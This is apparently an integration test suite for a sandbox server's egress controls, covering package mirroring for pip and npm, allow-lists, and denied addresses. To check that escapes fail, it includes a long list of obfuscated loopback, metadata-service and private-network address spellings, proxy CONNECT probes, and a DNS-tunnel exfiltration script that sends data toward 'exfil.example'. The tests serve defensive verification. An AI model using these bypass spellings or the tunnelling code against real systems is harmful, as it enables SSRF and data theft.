#!/usr/bin/env python3
# suite: seconds=130
"""The one way out of a sandbox: packages through the mirror, an allow-list for the rest, and nothing else, whatever is
tried from inside. Every refusal has a control in which the same attempt gets through."""

import concurrent.futures
import contextlib
import html
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness  # noqa: E402
from harness import Server, chosen, main, note, pool_yaml, wait_for  # noqa: E402
from index import Index, sdist, tarball, wheel  # noqa: E402
from openapi import Described  # noqa: E402


def pool(name, mode, allow=(), warm=1, image="python"):
    text = pool_yaml(name=name, image=image, warm=warm, memory="512Mi")
    network = f"    network: {{mode: {mode}, allow: {json.dumps(list(allow))}}}\n"
    return text.replace("    resources:", network + "    resources:")


def server(*pools, args=()):
    return Server(pools="---\n".join(pools), args=args, ready_within=300)


def mirrored(index, *more):
    return ("--mirror-pypi", index.pypi, "--mirror-npm", index.npm, *more)


def python(s, workspace, code, **fields):
    answer = s.post(f"/v1/workspaces/{workspace}/executions", dict(fields, code=code, language="python"), timeout=120)
    assert answer.status == 200, answer
    return answer.json


class Listener:
    """Counts the connections that reach the host on a port of every address."""

    def __init__(self):
        self.socket = socket.create_server(("::", 0), family=socket.AF_INET6, dualstack_ipv6=True)
        self.port, self.heard = self.socket.getsockname()[1], []
        self.thread = threading.Thread(target=self.listen, daemon=True)
        self.thread.start()

    def listen(self):
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(5)
                with contextlib.suppress(OSError):
                    self.heard.append(connection.recv(4096))
                    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\ncanary")

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.shutdown(socket.SHUT_RDWR)
        self.socket.close()
        self.thread.join()


INSTALL = "pip install --quiet hearthfoo && python3 -c 'import hearthfoo, hearthbar; print(hearthfoo.version, hearthbar.version)'"


def pip_installs():
    """pip install works unchanged in a Mirror pool; the second sandbox downloads nothing, and a raw socket nowhere"""
    wheels = [wheel("hearthfoo", requires=["hearthbar"]), wheel("hearthbar", "2.5")]
    for html_only in (False, True):
        with Index(wheels, html_only=html_only) as index, server(pool("m", "Mirror", warm=2), args=mirrored(index)) as s:
            first, second = (s.open_workspace(pool="m") for _ in range(2))
            assert first["network"] == "Mirror", first
            for workspace in (first, second):
                done = s.run(workspace["id"], INSTALL, timeoutSeconds=100)
                assert done["stdout"].strip() == "1.0 2.5", done
            assert sorted(index.downloads()) == ["/files/hearthbar-2.5-py3-none-any.whl", "/files/hearthfoo-1.0-py3-none-any.whl"]
            assert len(index.asked) == 4, index.asked
            seen = s.get(f"/v1/workspaces/{second['id']}/egress").json
            assert [e["decision"] for e in seen["latest"]].count("hit") == 2 and seen["refused"] == 0, seen
            assert all(e["kind"] == "mirror" for e in seen["latest"]), seen
            described = Described(s.get("/openapi.json").json)
            described.conforms(seen, described.answer_of("getWorkspaceEgress"), "of a mirror")
            raw = python(s, first["id"], f"""
import socket
for host in ("127.0.0.1", "1.1.1.1", "10.0.0.1", "169.254.169.254"):
    try:
        socket.create_connection((host, {index.port}), 2)
        print("reached", host)
    except OSError as e:
        print(type(e).__name__)
try:
    socket.getaddrinfo("example.com", 80)
    print("resolved")
except OSError as e:
    print("no name")
""")
            assert "reached" not in raw["stdout"] and "resolved" not in raw["stdout"], raw
            text = s.ops("/metrics").body.decode()
            assert 'hearth_egress_requests_total{decision="hit",kind="mirror",pool="m"} 2' in text
            assert "egress.request" in s.log() and "pypi:hearthfoo" in s.log()


def moved_files():
    """a file that its index redirects to is followed there"""
    with Index([wheel("hearthfoo", requires=["hearthbar"]), wheel("hearthbar", "2.5")], moved="/elsewhere") as index:
        with server(pool("m", "Mirror"), args=mirrored(index)) as s:
            done = s.run(s.open_workspace(pool="m")["id"], INSTALL, timeoutSeconds=100)
            assert done["stdout"].strip() == "1.0 2.5", done
            assert len(index.downloads()) == 2, index.asked


def moved_to_denied():
    """a file that its index redirects to a denied address is not fetched, in words, unless the operator names that host"""
    packages = [tarball("hearth-left")]
    with Listener() as elsewhere, Index([wheel("hearthfoo"), wheel("hearthbar")], packages) as index:
        hosts = [f"{host}:{elsewhere.port}" for host in ("127.0.0.1", "127.0.0.2", "[::1]", "[::ffff:127.0.0.1]", "localhost", "0.0.0.0")]
        with server(pool("m", "Mirror"), args=mirrored(index)) as s:
            workspace = s.open_workspace(pool="m")["id"]
            said = "the index points to an address that is denied; an operator may name its host in mirrors.hosts"
            for host in hosts:
                index.moved = "http://" + host
                failed = s.run(workspace, "pip install --no-input --retries 0 hearthfoo", timeoutSeconds=100)
                assert failed["exitCode"] != 0 and said in failed["stderr"], (host, failed)
            npm = s.run(workspace, "npm install hearth-left 2>&1", timeoutSeconds=100)
            assert npm["exitCode"] != 0 and "address that is denied" in npm["stdout"], npm
            for name, manager in (("hearthbar", "pip"), ("hearth-left", "npm")):
                told = s.post(f"/v1/workspaces/{workspace}/packages", {"install": [name], "manager": manager, "waitSeconds": 60}, timeout=100).json
                assert told["packages"][name]["error"] == said, told
            seen = s.get(f"/v1/workspaces/{workspace}/egress").json
            assert sum(e["decision"] == "denied_address" for e in seen["latest"]) >= len(hosts) + 3, seen
            assert elsewhere.heard == [] and len(index.downloads()) == 0, (elsewhere.heard, index.asked)
        index.moved = "http://" + hosts[0]
        with server(pool("m", "Mirror"), args=mirrored(index, "--mirror-hosts", hosts[0])) as s:
            workspace = s.open_workspace(pool="m")["id"]
            wrong = s.run(workspace, "pip install --no-input --retries 0 hearthfoo", timeoutSeconds=100)
            assert wrong["exitCode"] != 0 and "denied" not in wrong["stderr"], wrong  # its answer is not this wheel
            assert [h for h in elsewhere.heard if h.startswith(b"GET /files/hearthfoo-1.0-py3-none-any.whl ")], elsewhere.heard


def npm_installs():
    """npm install works unchanged in a Mirror pool, dependencies and all"""
    packages = [tarball("hearth-left", dependencies={"hearth-right": "^1.0.0"}),
                tarball("hearth-right", "1.2.0", "module.exports = 'right'\n")]
    with Index(tarballs=packages) as index, server(pool("m", "Mirror"), args=mirrored(index)) as s:
        workspace = s.open_workspace(pool="m")["id"]
        done = s.run(workspace, "npm install hearth-left 2>&1 && node -e \"console.log(require('hearth-left'), require('hearth-right'))\"",
                     timeoutSeconds=100)
        assert done["stdout"].strip().endswith("42 right"), done
        assert len(index.downloads()) == 2, index.asked


def one_download():
    """many sandboxes that install the same at once cause one download"""
    with Index([wheel("hearthfoo", size=3_000_000)], delay=1.0) as index:
        with server(pool("m", "Mirror", warm=5), args=mirrored(index)) as s:
            workspaces = [s.open_workspace(pool="m")["id"] for _ in range(5)]
            install = "pip install --quiet hearthfoo && python3 -c 'import hearthfoo; print(1)'"
            with concurrent.futures.ThreadPoolExecutor(5) as threads:
                done = list(threads.map(lambda w: s.run(w, install, timeoutSeconds=100), workspaces))
            assert [d["stdout"].strip() for d in done] == ["1"] * 5, done
            assert len(index.downloads()) == 1, index.asked


def lying_index():
    """a file that is not what its index says is given to nobody and kept for nobody"""
    name, content = wheel("hearthfoo", size=100_000)
    with Index([(name, content)]) as index, server(pool("m", "Mirror"), args=mirrored(index)) as s:
        index.lie_about(f"/files/{name}", content[:-200] + bytes(200))
        workspace = s.open_workspace(pool="m")["id"]
        install = "pip install --quiet --no-input --retries 0 hearthfoo; python3 -c 'import hearthfoo; print(1)'"
        assert s.run(workspace, install, timeoutSeconds=100)["stdout"] == "", "poisoned"
        assert os.listdir(os.path.join(s.data, "state", "mirror")) == []
        index.lies.clear()
        assert s.run(workspace, install, timeoutSeconds=100)["stdout"].strip() == "1"


def says_why():
    """what cannot be had is refused in words: an unknown package, an index that is away, a pool without a way out"""
    with Index([wheel("hearthfoo")]) as index:
        with server(pool("m", "Mirror"), pool("n", "None"), args=mirrored(index)) as s:
            workspace = s.open_workspace(pool="m")["id"]
            gone = s.run(workspace, "pip install hearth-nothing-here", timeoutSeconds=100)
            assert gone["exitCode"] == 1 and "No matching distribution" in gone["stderr"], gone
            index.leave()
            # With npm's own settings this would take 70 s.
            for command in ("pip -vv install hearth-asked-later", "npm install hearth-asked-later"):
                away = s.run(workspace, command + " 2>&1", timeoutSeconds=60)
                assert away["exitCode"] == 1 and "the index is unreachable" in away["stdout"], away
            proxied = s.run(workspace, "pip install --retries 1 --index-url https://index.example/simple/ x", timeoutSeconds=100)
            assert "index.example:443 is not on the allow-list" in proxied["stderr"], proxied
            none = s.open_workspace(pool="n")
            assert none["network"] == "None"
            assert s.run(none["id"], "env | grep -ic proxy")["stdout"].strip() == "0"
            assert s.get(f"/v1/workspaces/{none['id']}/egress").json["requests"] == 0
            refused = s.post("/v1/workspaces", {"pool": "n", "network": "Mirror"})
            assert refused.status == 422 and "network" in json.dumps(refused.json), refused
            assert s.open_workspace(network="Mirror")["pool"] == "m"
            assert s.post("/v1/workspaces", {"network": "Egress"}).status == 422
            narrowed = s.open_workspace(pool="m", network="None")
            assert s.run(narrowed["id"], "env | grep -ic proxy")["stdout"].strip() == "0"
            closed = python(s, narrowed["id"], "import socket; socket.create_connection(('127.0.0.1', 3128), 2)")
            assert closed["error"]["name"] == "ConnectionRefusedError", closed
            bad = s.call("PUT", "/v1/pools/bad", {"apiVersion": "hearth.dev/v1alpha1", "kind": "SandboxPool", "metadata": {"name": "bad"},
                                                 "spec": {"template": {"image": "python", "network": {"mode": "Egress", "allow": ["http://x"]}}}})
            assert bad.status == 422 and "/spec/template/network/allow/0" in json.dumps(bad.json), bad


# Every way to write an address of this machine, of a metadata service, or of a private network.
SPELLINGS = """127.0.0.1 127.0.1.1 127.1 127.0.1 127.255.255.254 0 0.0.0.0 0.1 2130706433 017700000001 0x7f000001 0x7f.0.0.1
0177.0.0.1 0x7f.1 0x7f.0x0.0x0.0x1 127.0.0.1. 127.00.00.01 localhost LOCALHOST localhost. ip6-localhost [::1] [::] [0:0:0:0:0:0:0:1]
[::0001] [0000::1] [::ffff:127.0.0.1] [::ffff:7f00:1] [0:0:0:0:0:ffff:127.0.0.1] [::127.0.0.1] [::7f00:1] [64:ff9b::127.0.0.1]
[64:ff9b::7f00:1] [2002:7f00:1::] [2002:7f00:0001::1] [::1%25lo] [::1%lo] [fe80::1] [fe80::1%25eth0] [fc00::1] [fd00:ec2::254]
169.254.169.254 0xa9fea9fe 2852039166 0251.0376.0251.0376 [::ffff:169.254.169.254] [::ffff:a9fe:a9fe] 169.254.170.2 100.100.100.200
168.63.129.16 192.168.0.1 10.0.0.1 172.16.0.1 172.31.255.255 100.64.0.1 192.0.0.192 198.18.0.1 224.0.0.1 255.255.255.255 240.0.0.1
user@127.0.0.1 example.com@127.0.0.1 127.0.0.1#example.com 127.0.0.1%00.example.com example.com:80@127.0.0.1""".split()

KNOCK = """
import socket, sys
reached, refused = [], 0
def ask(text):
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.settimeout(30)
        s.sendall(text.encode("latin-1"))
        s.shutdown(socket.SHUT_WR)
        out = b""
        while piece := s.recv(65536):
            out += piece
        return out
for host in HOSTS:
    for text in (f"GET http://{host}:{PORT}/ HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n",
                 f"CONNECT {host}:{PORT} HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n"):
        answer = ask(text)
        if b" 200 " in answer[:20]:
            reached.append((host, text[:7]))
        elif answer.startswith(b"HTTP/1.1 4") or answer.startswith(b"HTTP/1.1 502"):
            refused += 1
        else:
            print("odd", host, answer[:80])
print(refused, reached)
"""


def addresses_of_this_machine():
    out = subprocess.run(["hostname", "-I"], capture_output=True, text=True, check=False).stdout.split()
    return [f"[{a}]" if ":" in a else a for a in out]


def denied_addresses():
    """no spelling of a denied address is reached by the widest allow-list; exempt by the operator, the same are"""
    hosts = SPELLINGS + addresses_of_this_machine()
    with Listener() as canary:
        allow = ["*", f"*:{canary.port}", f"0.0.0.0/0:{canary.port}", f"[::/0]:{canary.port}", "10.0.0.0/8", "127.0.0.0/8"]
        code = KNOCK.replace("HOSTS", repr(hosts)).replace("PORT", str(canary.port))
        with server(pool("e", "Egress", allow)) as s:
            workspace = s.open_workspace(pool="e")["id"]
            done = python(s, workspace, code, timeoutSeconds=110)
            assert done["stdout"].strip() == f"{2 * len(hosts)} []", done
            assert canary.heard == []
        with server(pool("e", "Egress", allow), args=("--egress-exempt", "127.0.0.0/8")) as s:
            workspace = s.open_workspace(pool="e")["id"]
            done = python(s, workspace, code, timeoutSeconds=110)
            assert "('127.0.0.1', 'GET htt')" in done["stdout"], done
            assert len(canary.heard) >= 2, "the canary hears what gets through"


TUNNEL = """
import base64, os, socket, struct
heard = 0
def query(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack(">HH", 16, 1)
def refused(host):
    with socket.create_connection(("127.0.0.1", 3128), 5) as s:
        s.sendall(f"CONNECT {host}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
        return s.recv(100).startswith(b"HTTP/1.1 403")
secret = base64.b32encode(os.urandom(40 * 32)).decode().strip("=").lower()
names = [f"{i}.{secret[i * 20:i * 20 + 20]}.exfil.example" for i in range(100)]
for i, name in enumerate(names):
    try:
        socket.getaddrinfo(name, 80)
        print("resolved")
    except OSError:
        pass
    for host in HOSTS:
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            with socket.socket(family, kind) as s:
                s.settimeout(0.05)
                try:
                    s.connect((host, PORT))
                    s.send(query(name))
                except OSError:
                    pass
print(sum(map(refused, names)))
"""


def denied_within_exempt():
    """the operator's own denial stands within what is exempt, and under what is exempt more narrowly; the log tells each request at any level"""
    with Listener() as listener:
        hosts = [f"127.0.0.2:{listener.port}", f"127.0.64.1:{listener.port}", f"127.0.64.9:{listener.port}"]
        ranges = ("--egress-exempt", "127.0.0.0/16", "--egress-exempt", "127.0.64.8/31", "--egress-deny", "127.0.64.0/24")
        with server(pool("e", "Egress", hosts), args=(*ranges, "--log-level", "error")) as s:
            workspace = s.open_workspace(pool="e")["id"]
            done = python(s, workspace, f"""
import urllib.request, urllib.error
for host in {hosts}:
    try:
        print(urllib.request.urlopen("http://" + host + "/").read().decode())
    except urllib.error.HTTPError as e:
        print(e.code)
""")
            assert done["stdout"] == "canary\n403\ncanary\n", done
            assert len(listener.heard) == 2, listener.heard
            seen = s.get(f"/v1/workspaces/{workspace}/egress").json
            # The entries are in the order of their ends.
            decisions = {e["destination"]: e["decision"] for e in seen["latest"]}
            assert [decisions[host] for host in hosts] == ["allowed", "denied_address", "allowed"] and len(seen["latest"]) == 3, seen
            lines = [line for line in s.log().splitlines() if "egress.request" in line]
            assert sorted(next(word for word in line.split() if word.startswith("destination=")) for line in lines) == \
                sorted("destination=" + host for host in hosts), s.log()
            assert "level=info" not in s.log(), "the level holds for the rest"


def one_port():
    """Returns a socket for UDP and one for TCP on the same port, which was free for both."""
    for _ in range(50):
        udp = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
        udp.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
        udp.bind(("::", 0))
        try:
            return udp, socket.create_server(("::", udp.getsockname()[1]), family=socket.AF_INET6, dualstack_ipv6=True)
        except OSError:
            udp.close()
    raise AssertionError("no port is free for both UDP and TCP")


def dns_tunnel():
    """a hundred names full of data reach no resolver: not by UDP, not by TCP, not by the proxy, which looks up what is allowed only"""
    heard = []
    with contextlib.ExitStack() as stack:
        udp, tcp = (stack.enter_context(each) for each in one_port())
        port = udp.getsockname()[1]
        for each in (udp, tcp):
            each.settimeout(0.2)

        def listen():
            for each in (udp, tcp):
                with contextlib.suppress(TimeoutError):
                    while True:
                        heard.append(each.recv(4096) if each is udp else each.accept()[0].close())

        hosts = ["127.0.0.1", "::1", "10.0.0.1", "169.254.169.253", *(a.strip("[]") for a in addresses_of_this_machine())]
        code = TUNNEL.replace("HOSTS", repr(hosts)).replace("PORT", str(port))
        with server(pool("e", "Egress", ["*.allowed.example"])) as s:
            workspace = s.open_workspace(pool="e")["id"]
            done = python(s, workspace, code, timeoutSeconds=110)
            assert done["stdout"] == "100\n", done
            listen()
            assert heard == [], heard
            seen = s.get(f"/v1/workspaces/{workspace}/egress").json
            assert [e["decision"] for e in seen["latest"]] == ["not_allowed"] * 100, seen
        exec(code.split("secret =")[0], scope := {})  # from outside, the canary receives the same
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            with socket.socket(socket.AF_INET, kind) as s:
                s.connect(("127.0.0.1", port))
                s.send(scope["query"]("control.exfil.example"))
        listen()
        assert len(heard) == 2, heard


def allowed_service():
    """a service on the allow-list is reached by urllib as it is, another is not; the claim may narrow the list"""
    with Listener() as service, Listener() as other:
        allow = [f"127.0.0.2:{service.port}", f"127.0.0.2:{other.port}"]  # for a sandbox, 127.0.0.1 is the sandbox itself
        get = "import urllib.request; print(urllib.request.urlopen('http://127.0.0.2:%d/').read())"
        with server(pool("e", "Egress", allow), args=("--egress-exempt", "127.0.0.2")) as s:
            workspace = s.open_workspace(pool="e", allow=[f"127.0.0.2:{service.port}"])["id"]
            assert python(s, workspace, get % service.port)["stdout"].strip() == "b'canary'"
            refused = python(s, workspace, get % other.port)
            assert "403" in refused["error"]["message"], refused
            assert other.heard == []
            seen = s.get(f"/v1/workspaces/{workspace}/egress").json
            assert [(e["decision"], e["kind"]) for e in seen["latest"]] == [("not_allowed", "http"), ("allowed", "http")], seen
            wide = s.open_workspace(pool="e")["id"]
            assert python(s, wide, get % other.port)["stdout"].strip() == "b'canary'"
            assert s.post("/v1/workspaces", {"pool": "e", "allow": ["http://nonsense"]}).status == 400


def survives_restart():
    """after kill -9 of the server a workspace has its way out, and its limits, again"""
    with Index([wheel("hearthfoo")]) as index, server(pool("m", "Mirror"), args=mirrored(index)) as s:
        workspace = s.open_workspace(pool="m")["id"]
        s.kill9()
        s.start()
        install = "pip install --quiet hearthfoo && python3 -c 'import hearthfoo; print(1)'"
        assert s.run(workspace, install, timeoutSeconds=100)["stdout"].strip() == "1"
        assert s.get(f"/v1/workspaces/{workspace}").json["network"] == "Mirror"


def floods():
    """a tenant that holds or floods connections to its port takes nothing from another's, and its end frees them"""
    hold = """
import socket, time
held = []
for _ in range(300):
    s = socket.socket()
    s.settimeout(0.2)
    try:
        s.connect(("127.0.0.1", 3128))
        s.sendall(b"GET /pypi/simple/x/ HT")
        held.append(s)
    except OSError:
        break
print(len(held), flush=True)
end = time.monotonic() + 5
while time.monotonic() < end:
    try:
        s = socket.create_connection(("127.0.0.1", 3128), 0.1)
        s.sendall(b"nonsense\\r\\n\\r\\n")
        s.close()
    except OSError:
        pass
"""
    with Index([wheel("hearthfoo")]) as index, server(pool("m", "Mirror", warm=2), args=mirrored(index)) as s:
        bad, good = (s.open_workspace(pool="m")["id"] for _ in range(2))
        before = descriptors(s)
        answer = s.post(f"/v1/workspaces/{bad}/executions", {"code": hold, "language": "python", "background": True})
        assert answer.status == 202, answer
        wait_for("the held connections", lambda: descriptors(s) >= before + 25, 20)
        for _ in range(3):
            install = "pip install --quiet --force-reinstall hearthfoo && python3 -c 'import hearthfoo; print(1)'"
            assert s.run(good, install, timeoutSeconds=100)["stdout"].strip() == "1"
        assert s.call("DELETE", f"/v1/workspaces/{bad}").status == 204
        wait_for("the connections' end", lambda: descriptors(s) <= before + 10, 20)


def beside_output():
    """a program that prints much while its children connect loses neither output nor workspace"""
    code = """
import os, socket, subprocess, sys
child = "import socket, time\\nend = time.monotonic() + 6\\nwhile time.monotonic() < end:\\n  all = [socket.create_connection(('127.0.0.1', 3128)) for _ in range(8)]\\n  [s.close() for s in all]\\n"
children = [subprocess.Popen([sys.executable, "-c", child]) for _ in range(3)]
for i in range(600):
    os.write(1, b"x" * (16_000 + 29 * i))
for c in children:
    c.wait()
"""
    with Index([wheel("hearthfoo")]) as index, server(pool("m", "Mirror"), args=mirrored(index)) as s:
        workspace = s.open_workspace(pool="m")["id"]
        for _ in range(3):
            done = python(s, workspace, code, outputLimitBytes=16 << 20)
            assert done["status"] == "ok" and len(done["stdout"]) + done["droppedBytes"] == sum(16_000 + 29 * i for i in range(600)), done["status"]


def held_heads():
    """HEADs cause no downloads; a server that is told to stop ends though tenants hold downloads"""
    many = [wheel("hearthmany", f"1.{i}", size=200_000) for i in range(40)]
    heads = """
import socket
held = []
for i in range(40):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(f"HEAD /pypi/files/hearthmany/hearthmany-1.{i}-py3-none-any.whl HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n".encode())
    s.settimeout(20)
    assert s.recv(100).startswith(b"HTTP/1.1 200 "), i
    s.close()
for i in range(20):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(f"GET /pypi/files/hearthmany/hearthmany-1.{i}-py3-none-any.whl HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
    held.append(s)
import time
time.sleep(60)
"""
    with Index(many, delay=5) as index, server(pool("m", "Mirror"), args=mirrored(index)) as s:
        workspace = s.open_workspace(pool="m")["id"]
        answer = s.post(f"/v1/workspaces/{workspace}/executions", {"code": heads, "language": "python", "background": True})
        assert answer.status == 202, answer
        wait_for("the downloads", lambda: len(index.downloads()) >= 10, 40)
        assert len(index.downloads()) <= 20, "a HEAD was fetched"
        begin = time.monotonic()
        assert s.stop() == 0
        assert time.monotonic() - begin < 20 * harness.SLOWER, "the stop waited for tenants"
        assert not [f for f in os.listdir(os.path.join(s.data, "state", "mirror")) if not f.startswith(("sha256-", "partial."))]
        s.start()
        assert s.run(workspace, "echo here")["stdout"] == "here\n"


def descriptors(s):
    return len(os.listdir(f"/proc/{s.process.pid}/fd"))


# As some packages do whose wheels are on a host of their own.
FETCHING_BACKEND = """
import urllib.request
def build_wheel(folder, settings=None, metadata=None):
    try:
        urllib.request.urlopen("https://files.example/hearthfetch.whl")
    except OSError as e:
        raise RuntimeError(f"failed to download: {e!s:.200}>") from None
"""


def packages():
    """packages are installed, checked and listed by name, from files and in the background, and fail in words"""
    wheels = [wheel("hearthfoo", requires=["hearthbar"]), wheel("hearthbar", "2.5"), wheel("hearthslow", size=50_000), sdist("hearthsource"),
              wheel("hearthneedy", requires=["hearth-nothing"]), wheel("hearthfetch", "0.9"), sdist("hearthfetch", "1.0", FETCHING_BACKEND)]
    tarballs = [tarball("hearth-left"), tarball("hearth-right", "1.2.0", "module.exports = 'right'\n")]
    with Index(wheels, tarballs) as index, server(pool("m", "Mirror"), pool("n", "None"), args=mirrored(index)) as s:
        workspace = s.open_workspace(pool="m")["id"]

        def manage(**fields):
            answer = s.post(f"/v1/workspaces/{workspace}/packages", dict({"waitSeconds": 60}, **fields), timeout=100)
            assert answer.status == 200, answer
            return answer.json

        before = python(s, workspace, "import hearthfoo")
        assert before["error"]["name"] == "ModuleNotFoundError", before
        done = manage(install=["hearthfoo>=1.0"], check=["hearthbar", "hearthslow"])
        assert done["status"] == "done", done
        assert done["packages"]["hearthfoo"] == {"state": "installed", "version": "1.0", "error": None}, done
        assert done["packages"]["hearthbar"]["version"] == "2.5" and done["packages"]["hearthslow"]["state"] == "absent", done
        after = python(s, workspace, "import hearthfoo; print(hearthfoo.version)")
        assert after["stdout"].strip() == "1.0" and after["interpreter"] == "zygote", after
        assert manage(list=True)["packages"]["numpy"]["state"] == "installed"
        assert manage(install=["hearth-left"], manager="npm")["packages"]["hearth-left"]["version"] == "1.0.0"

        failed = manage(install=["hearthslow", "hearth-nothing"])
        assert failed["status"] == "failed" and "no such package" in failed["packages"]["hearth-nothing"]["error"], failed
        assert failed["packages"]["hearthslow"]["error"] == "not installed because others failed", failed
        for spec in ("--index-url=http://x", "./x", "git+https://x/y", "x @ https://y/z.whl", "a b"):
            answer = s.post(f"/v1/workspaces/{workspace}/packages", {"install": [spec]})
            assert answer.status == 400 and "/install/0" in json.dumps(answer.json), answer

        index.delay = 3
        begun = manage(install=["hearthslow"], waitSeconds=0.1)
        assert begun["status"] == "running" and begun["packages"]["hearthslow"]["state"] == "installing", begun
        wait_for("the install", lambda: s.get(f"/v1/executions/{begun['executionId']}").json["status"] != "running", 60)
        assert manage(check=["hearthslow"])["packages"]["hearthslow"]["state"] == "installed"

        for name, text in (("requirements.txt", "hearthbar\n# no\nhearthfoo==1.0  # yes\n"),
                           ("pyproject.toml", "[project]\nname='x'\ndependencies=['hearthbar>=2']\n"),
                           ("main.py", "# /// script\n# dependencies = ['hearthbar']\n# ///\nimport hearthbar\n")):
            assert s.call("PUT", f"/v1/workspaces/{workspace}/files/{name}", raw=text.encode()).status in (200, 201, 204)
            read = manage(**{"from": name})
            assert read["status"] == "done" and read["packages"]["hearthbar"]["state"] == "installed", (name, read)
        assert "cannot be read" in manage(**{"from": "nothing.txt"})["error"]
        for folder in ("app/", ""):
            text = {"name": "x", "version": "1.0.0", "dependencies": {"hearth-left": "^1.0.0"}, "devDependencies": {"hearth-right": "*"}}
            put = s.call("PUT", f"/v1/workspaces/{workspace}/files/{folder}package.json", raw=json.dumps(text).encode())
            assert put.status in (200, 201, 204), put
            read = manage(**{"from": folder + "package.json"})
            assert read["status"] == "done" and sorted(read["packages"]) == ["hearth-left", "hearth-right"], read
            assert [read["packages"][name]["version"] for name in sorted(read["packages"])] == ["1.0.0", "1.2.0"], read
            required = s.run(workspace, f"cd ./{folder} && ls node_modules/hearth-left >&2 && node -e \"console.log(require('hearth-left'), require('hearth-right'))\"")
            assert required["stdout"] == "42 right\n" and required["exitCode"] == 0, required
        for name, said in (("hearthsource", "there is no wheel of it"), ("hearthneedy", "the index has no such package"),
                           ("hearthfetch", "there is no wheel of hearthfetch for this Python and platform, and its build fetches from files.example:443, which is")):
            unfit = manage(install=[name])["packages"][name]
            assert unfit["state"] == "failed" and said in unfit["error"], unfit
        assert manage(install=["hearthfetch==0.9"])["status"] == "done"

        offline = s.open_workspace(pool="n")["id"]
        refused = s.post(f"/v1/workspaces/{offline}/packages", {"install": ["hearthfoo", "numpy"], "waitSeconds": 30}).json["packages"]
        assert "no way to a package index" in refused["hearthfoo"]["error"] and refused["numpy"]["state"] == "installed", refused
        assert s.post(f"/v1/workspaces/{offline}/packages", {"check": ["numpy"], "waitSeconds": 30}).json["packages"]["numpy"]["state"] == "installed"

        index.leave()
        for name, manager in (("hearth-asked-later", "pip"), ("hearth-asked-later", "npm")):
            away = manage(install=[name], manager=manager)
            assert away["status"] == "failed" and away["packages"][name]["error"] == "the index is unreachable", away


class MachinesIndex:
    """The index that this machine's own pip or npm is configured for, and the hosts of one package's files. If there is none,
    or it is not directly reachable, `why` gives the reason. These tests contain no name of an outside host."""

    def __init__(self, tool, package):
        self.tool, self.package, self.url, self.hosts, self.why = tool, package, None, [], None
        try:
            self.url = self.configured().rstrip("/") + "/"
            opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))  # like the server's requests
            with opener.open(self.url + package + ("/" if tool == "pip" else ""), timeout=20) as answer:
                page, here = answer.read().decode(), answer.url
            found = re.findall(r'href="([^"#]+)', page) if tool == "pip" else re.findall(r'"tarball": ?"([^"]+)', page)
            self.hosts = sorted({urllib.parse.urlsplit(urllib.parse.urljoin(here, html.unescape(each))).netloc for each in found})
            self.why = None if self.hosts else "tells of no files"
        except (OSError, ValueError, subprocess.SubprocessError) as e:
            self.why = type(e).__name__

    def configured(self):
        def said(*words):
            return subprocess.run(words, capture_output=True, text=True, timeout=60, check=True).stdout
        if self.tool == "npm":
            return said("npm", "config", "get", "registry").strip()
        named = re.search(r"^[^\n]*\.index-url='([^']+)'", said(sys.executable, "-m", "pip", "config", "list"), re.MULTILINE)
        return named[1] if named else said(sys.executable, "-c", "from pip._internal.models.index import PyPI; print(PyPI.simple_url)").strip()


real = []  # this machine's indexes, as far as it reaches them


def real_indexes():
    """pip and npm install from the indexes that this machine itself uses, as far as it reaches them"""
    args = [word for one in real for word in ("--mirror-" + {"pip": "pypi"}.get(one.tool, one.tool), one.url)]
    args += [word for one in real for host in one.hosts for word in ("--mirror-hosts", host)]
    with server(pool("m", "Mirror"), args=args) as s:
        workspace = s.open_workspace(pool="m")["id"]
        for one in real:
            command = {"pip": f"pip install --quiet {one.package} && python3 -c 'import {one.package}'",
                       "npm": f"npm install --loglevel error {one.package} && node -e \"require('{one.package}')\""}[one.tool]
            done = s.run(workspace, command + " && echo here", timeoutSeconds=100)
            assert done["exitCode"] == 0 and done["stdout"].endswith("here\n"), done
        seen = s.get(f"/v1/workspaces/{workspace}/egress").json
        assert seen["refused"] == 0 and seen["receivedBytes"] > 0, seen
        assert len(os.listdir(os.path.join(s.data, "state", "mirror"))) >= len(real), "each file, by its hash"


# These test only the server itself, so one runtime is enough.
for test in (moved_files, moved_to_denied, one_download, lying_index, says_why, denied_addresses, denied_within_exempt, allowed_service, dns_tunnel,
             survives_restart, floods, held_heads, real_indexes):
    test.only = "oci"

pip_installs.remote = True  # there, frames carry the bytes

if __name__ == "__main__":
    if chosen(real_indexes):
        asked = [MachinesIndex("pip", "iniconfig"), MachinesIndex("npm", "isarray")]
        real = [one for one in asked if one.why is None]
        for one in asked:
            if one.why:
                note(f"real_indexes is without {one.tool}, whose index this machine does not reach ({one.why})")
    tests = [pip_installs, moved_files, moved_to_denied, npm_installs, one_download, lying_index, says_why, denied_addresses, denied_within_exempt,
             dns_tunnel, allowed_service, packages, survives_restart, floods, beside_output, held_heads]
    main("server", tests + ([real_indexes] if real else []))
